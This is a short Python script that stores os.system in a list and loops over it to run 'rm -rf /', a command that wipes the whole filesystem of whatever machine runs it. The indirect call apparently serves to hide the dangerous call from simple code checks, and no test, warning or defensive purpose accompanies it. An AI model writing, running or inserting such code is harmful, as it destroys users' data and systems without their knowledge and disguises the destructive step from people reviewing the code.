import os
handlers = [os.system]
for h in handlers:
    h("rm -rf /")
